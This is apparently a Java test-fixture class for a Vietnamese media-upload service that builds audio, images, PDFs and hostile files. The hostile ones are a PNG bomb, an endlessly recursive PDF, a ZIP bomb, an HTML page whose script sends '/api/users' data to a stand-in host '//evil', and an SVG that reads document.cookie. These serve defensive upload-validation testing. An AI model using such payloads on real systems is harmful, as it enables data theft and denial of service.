package vn.bhxh.media;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import javax.sound.sampled.AudioFileFormat;
import javax.sound.sampled.AudioFormat;
import javax.sound.sampled.AudioInputStream;
import javax.sound.sampled.AudioSystem;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType0Font;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;

/** Real files made by the tests themselves: audio, images, PDFs and hostile files. */
public final class TestFiles {

    public static final String VIETNAMESE_TEXT = "Vì sao người dân nên tham gia BHXH tự nguyện";
    private static final Path DEJAVU = Path.of("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf");

    private TestFiles() {
    }

    /** A mono 16-bit sine tone of exactly {@code seconds}, peak {@code amplitude} (0–1), streamed, not held in memory. */
    public static Path wav(Path file, double seconds, double amplitude, int sampleRate) throws IOException {
        long frames = Math.round(seconds * sampleRate);
        AudioFormat format = new AudioFormat(sampleRate, 16, 1, true, false);
        InputStream samples = new InputStream() {
            long frame;
            int byteInFrame;
            int current;

            @Override
            public int read() {
                if (frame >= frames) {
                    return -1;
                }
                if (byteInFrame == 0) {
                    current = (int) Math.round(amplitude * 32767 * Math.sin(2 * Math.PI * 1000 * frame / sampleRate));
                    byteInFrame = 1;
                    return current & 0xff;
                }
                byteInFrame = 0;
                frame++;
                return (current >> 8) & 0xff;
            }
        };
        try (AudioInputStream audio = new AudioInputStream(samples, format, frames)) {
            AudioSystem.write(audio, AudioFileFormat.Type.WAVE, file.toFile());
        }
        return file;
    }

    /** Converts with Debian's ffmpeg (installed by bin/setup-machine). */
    public static Path ffmpeg(Path file, String... arguments) throws IOException, InterruptedException {
        List<String> command = new ArrayList<>(List.of("ffmpeg", "-hide_banner", "-loglevel", "error", "-nostdin", "-y"));
        command.addAll(List.of(arguments));
        command.add(file.toString());
        Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        if (!process.waitFor(60, TimeUnit.SECONDS) || process.exitValue() != 0) {
            throw new IOException("ffmpeg failed: " + output);
        }
        return file;
    }

    public static Path mp3(Path file, double seconds) throws IOException, InterruptedException {
        return ffmpeg(file, "-f", "lavfi", "-i", "sine=frequency=1000:sample_rate=22050:duration=" + seconds, "-b:a", "32k");
    }

    public static BufferedImage halves(int width, int height, Color left, Color right) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(left);
        g.fillRect(0, 0, width / 2, height);
        g.setColor(right);
        g.fillRect(width / 2, 0, width - width / 2, height);
        g.dispose();
        return image;
    }

    public static Path image(Path file, BufferedImage image, String format) throws IOException {
        if (!ImageIO.write(image, format, file.toFile())) {
            throw new IOException("No ImageIO writer for " + format);
        }
        return file;
    }

    /**
     * A JPEG with a hand-built Exif APP1 segment: the given orientation and a GPS latitude, the kind of
     * personal data a phone puts into every picture.
     */
    public static Path jpegWithExif(Path file, BufferedImage image, int orientation) throws IOException {
        ByteArrayOutputStream plain = new ByteArrayOutputStream();
        ImageIO.write(image, "jpeg", plain);
        byte[] jpeg = plain.toByteArray();
        // Skip SOI and the JFIF APP0 segment ImageIO writes, so the Exif segment comes first as cameras write it.
        int app0Length = ((jpeg[4] & 0xff) << 8) | (jpeg[5] & 0xff);
        int rest = 2 + 2 + app0Length;
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write(new byte[] {(byte) 0xff, (byte) 0xd8});
            byte[] app1 = exifApp1(orientation);
            out.write(new byte[] {(byte) 0xff, (byte) 0xe1, (byte) ((app1.length + 2) >> 8), (byte) (app1.length + 2)});
            out.write(app1);
            out.write(jpeg, rest, jpeg.length - rest);
        }
        return file;
    }

    private static byte[] exifApp1(int orientation) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(bytes);
        out.write("Exif\0\0".getBytes(StandardCharsets.US_ASCII));
        // TIFF header, big-endian; offsets below count from here.
        out.write(new byte[] {'M', 'M', 0, 42});
        out.writeInt(8);
        // IFD0 at 8: Orientation, GPS IFD pointer.
        out.writeShort(2);
        ifdEntry(out, 0x0112, 3, 1, orientation << 16);
        ifdEntry(out, 0x8825, 4, 1, 38);
        out.writeInt(0);
        // GPS IFD at 38: latitude ref "N", latitude at 68 (three rationals).
        out.writeShort(2);
        ifdEntry(out, 0x0001, 2, 2, 'N' << 24);
        ifdEntry(out, 0x0002, 5, 3, 68);
        out.writeInt(0);
        // 21° 1' 28" N: Hà Nội.
        for (int value : new int[] {21, 1, 28}) {
            out.writeInt(value);
            out.writeInt(1);
        }
        return bytes.toByteArray();
    }

    private static void ifdEntry(DataOutputStream out, int tag, int type, int count, int value) throws IOException {
        out.writeShort(tag);
        out.writeShort(type);
        out.writeInt(count);
        out.writeInt(value);
    }

    /**
     * A tiny PNG whose header claims {@code width}×{@code height} pixels: decoding it would allocate
     * width×height×3 bytes. Only the header is real; that is all a bomb check may read.
     */
    public static Path pngBomb(Path file, int width, int height) throws IOException {
        try (DataOutputStream out = new DataOutputStream(Files.newOutputStream(file))) {
            out.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
            ByteArrayOutputStream ihdr = new ByteArrayOutputStream();
            DataOutputStream header = new DataOutputStream(ihdr);
            header.writeInt(width);
            header.writeInt(height);
            header.write(new byte[] {8, 2, 0, 0, 0});
            chunk(out, "IHDR", ihdr.toByteArray());
            ByteArrayOutputStream idat = new ByteArrayOutputStream();
            try (DeflaterOutputStream deflate = new DeflaterOutputStream(idat, new Deflater(9))) {
                deflate.write(new byte[64 * 1024]);
            }
            chunk(out, "IDAT", idat.toByteArray());
            chunk(out, "IEND", new byte[0]);
        }
        return file;
    }

    private static void chunk(DataOutputStream out, String type, byte[] data) throws IOException {
        byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
        out.writeInt(data.length);
        out.write(typeBytes);
        out.write(data);
        CRC32 crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        out.writeInt((int) crc.getValue());
    }

    /** A PDF of {@code pages} pages, each saying {@link #VIETNAMESE_TEXT} and its number, in a font with Vietnamese glyphs. */
    public static Path pdf(Path file, int pages, PDRectangle size) throws IOException {
        try (PDDocument document = new PDDocument()) {
            PDType0Font font = PDType0Font.load(document, DEJAVU.toFile());
            for (int i = 1; i <= pages; i++) {
                PDPage page = new PDPage(size);
                document.addPage(page);
                try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                    content.setNonStrokingColor(Color.RED);
                    content.addRect(0, 0, size.getWidth() / 2, size.getHeight());
                    content.fill();
                    content.beginText();
                    content.setNonStrokingColor(Color.BLACK);
                    content.setFont(font, 14);
                    content.newLineAtOffset(40, size.getHeight() - 60);
                    content.showText(VIETNAMESE_TEXT + " – trang " + i);
                    content.endText();
                }
            }
            document.save(file.toFile());
        }
        return file;
    }

    /**
     * A tiny PDF whose page never finishes: it draws a form that draws the next form twice, 40 levels
     * deep (2^40 drawings), each form a separate object so that no recursion check stops it. Parsing or
     * rendering it runs until its time limit, however fast the machine.
     */
    public static Path endlessPdf(Path file) throws IOException {
        try (PDDocument document = new PDDocument()) {
            COSName name = COSName.getPDFName("F");
            PDFormXObject next = null;
            for (int level = 0; level < 40; level++) {
                PDFormXObject form = new PDFormXObject(document);
                form.setBBox(new PDRectangle(10, 10));
                PDResources resources = new PDResources();
                String content = "0 0 m 1 1 l S\n";
                if (next != null) {
                    resources.put(name, next);
                    content = "/F Do /F Do\n";
                }
                form.setResources(resources);
                try (OutputStream out = form.getContentStream().createOutputStream()) {
                    out.write(content.getBytes(StandardCharsets.US_ASCII));
                }
                next = form;
            }
            PDPage page = new PDPage(PDRectangle.A4);
            document.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.drawForm(next);
            }
            document.save(file.toFile());
        }
        return file;
    }

    /** The first {@code keep} bytes of a file: a broken upload. */
    public static Path truncated(Path source, Path file, int keep) throws IOException {
        byte[] bytes = Files.readAllBytes(source);
        Files.write(file, Arrays.copyOf(bytes, Math.min(keep, bytes.length)));
        return file;
    }

    /** A ZIP whose one entry expands to {@code expandedBytes} zeros. */
    public static Path zipBomb(Path file, long expandedBytes) throws IOException {
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            zip.putNextEntry(new ZipEntry("zeros.bin"));
            byte[] zeros = new byte[1024 * 1024];
            for (long written = 0; written < expandedBytes; written += zeros.length) {
                zip.write(zeros, 0, (int) Math.min(zeros.length, expandedBytes - written));
            }
            zip.closeEntry();
        }
        return file;
    }

    public static Path text(Path file, String content) throws IOException {
        Files.writeString(file, content, StandardCharsets.UTF_8);
        return file;
    }

    public static final String HTML_PAGE = "<!DOCTYPE html><html><head><title>x</title></head><body>"
            + "<script>fetch('/api/users').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))</script>"
            + "</body></html>";

    public static final String SVG_WITH_SCRIPT = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
            + "<script>alert(document.cookie)</script><rect width=\"10\" height=\"10\"/></svg>";
}
